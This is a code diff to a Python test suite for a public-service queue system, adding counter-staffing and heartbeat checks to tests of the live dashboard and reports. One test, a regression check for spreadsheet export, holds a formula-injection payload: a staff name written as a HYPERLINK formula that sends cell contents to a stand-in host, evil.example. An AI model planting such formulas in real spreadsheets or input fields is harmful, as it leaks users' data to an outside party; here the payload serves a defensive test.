@@ -6,7 +6,8 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from tests_support import FIVE_LEVEL_SATISFACTION, demo_centre_yaml, tablet_headers
+from tests_support import (FIVE_LEVEL_SATISFACTION, demo_centre_yaml, heartbeat, staff_counter, tablet_headers,
+                           take_counter)
 
 
 @pytest.fixture
@@ -24,6 +25,8 @@ def issue(client, auth, procedure):
 
 
 def act(client, auth, counter, action, role="staff", **body):
+    if role == "staff":  # canbo works at the counter they hold (managers may act at any)
+        take_counter(client, auth(role), counter)
     response = client.post(f"/api/v1/counters/{counter}/{action}", json=body, headers=auth(role))
     assert response.status_code == 200, response.get_json()
     return response.get_json()["ticket"]
@@ -132,6 +135,7 @@ def test_satisfaction_rate_follows_the_scales_satisfied_from(make_app, tmp_path,
     app = make_app(config)
     client, kiosk, staff = app.test_client(), tokens_for(app), tokens_for(app, "staff", "canbo")
     at(clock, "09:00")
+    take_counter(client, staff, 1)
     for score in (5, 4, 3, 2):
         ticket = client.post("/api/v1/tickets", json={"procedure_id": "khai_sinh"}, headers=kiosk).get_json()["ticket"]
         client.post("/api/v1/counters/1/call-next", headers=staff)
@@ -258,7 +262,7 @@ def test_every_xlsx_sheet_carries_the_hand_computed_breakdown(client, auth, hist
     }
 
 
-def test_live_dashboard_compares_with_the_same_weekday_last_week(client, auth, clock):
+def test_live_dashboard_compares_with_the_same_weekday_last_week(client, auth, clock, centre):
     clock.set("2026-11-16T09:00:00+07:00")  # Monday a week earlier
     for _ in range(3):
         issue(client, auth, "khai_sinh")
@@ -269,15 +273,22 @@ def test_live_dashboard_compares_with_the_same_weekday_last_week(client, auth, c
     clock.set("2026-11-23T09:00:00+07:00")
     issue(client, auth, "khai_sinh"); act(client, auth, 1, "call-next"); act(client, auth, 1, "done")
     issue(client, auth, "khai_sinh")
-    clock.set("2026-11-23T09:12:00+07:00")
+    for minute in range(1, 13):  # canbo's console at counter 1 keeps beating
+        clock.set(f"2026-11-23T09:{minute:02}:00+07:00")
+        heartbeat(client, auth("staff"))
     issue(client, auth, "chung_thuc_ban_sao")
-    client.post("/api/v1/counters/4/close", headers=auth("staff"))
+    desk_4 = staff_counter(centre, 4)  # someone sits at counter 4, then closes it
+    assert client.post("/api/v1/counters/4/close", headers=desk_4).status_code == 200
     live = client.get("/api/v1/reports/live", headers=auth("manager")).get_json()
     fields = {f["id"]: f for f in live["fields"]}
     assert fields["ho_tich"]["waiting"] == 1 and fields["ho_tich"]["longest_wait_minutes"] == 12
     assert fields["chung_thuc"]["waiting"] == 1 and live["waiting_total"] == 2
     assert live["longest_wait"] == {"field_id": "ho_tich", "minutes": 12}
-    assert live["counters_open"] == 7
+    counters = {c["number"]: c for c in live["counters"]}
+    assert live["counters_staffed"] == 1  # counter 1: not the six open counters nobody sits at, not 4 (closed)
+    assert counters[1]["staffed"] is True and counters[1]["staffed_minutes_today"] == 12
+    assert counters[4]["staffed"] is False and counters[4]["open"] is False
+    assert counters[2]["staffed"] is False and counters[2]["open"] is True
     assert (live["served_today"], live["served_last_week_same_time"], live["served_last_week_whole_day"]) == (1, 3, 4)
     assert live["last_week_day"] == "2026-11-16"
 
@@ -289,6 +300,7 @@ def test_finding_14_formula_like_names_are_exported_as_text(client, auth, centre
     hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
     access.create_staff(centre, "mallory", "mat-khau-dai", hostile)
     mallory = {"Authorization": "Bearer " + access.create_token(centre, "staff", "mallory")}
+    take_counter(client, mallory, 1)
     at(clock, "09:00")
     issue(client, auth, "khai_sinh")
     at(clock, "09:05"); client.post("/api/v1/counters/1/call-next", headers=mallory)
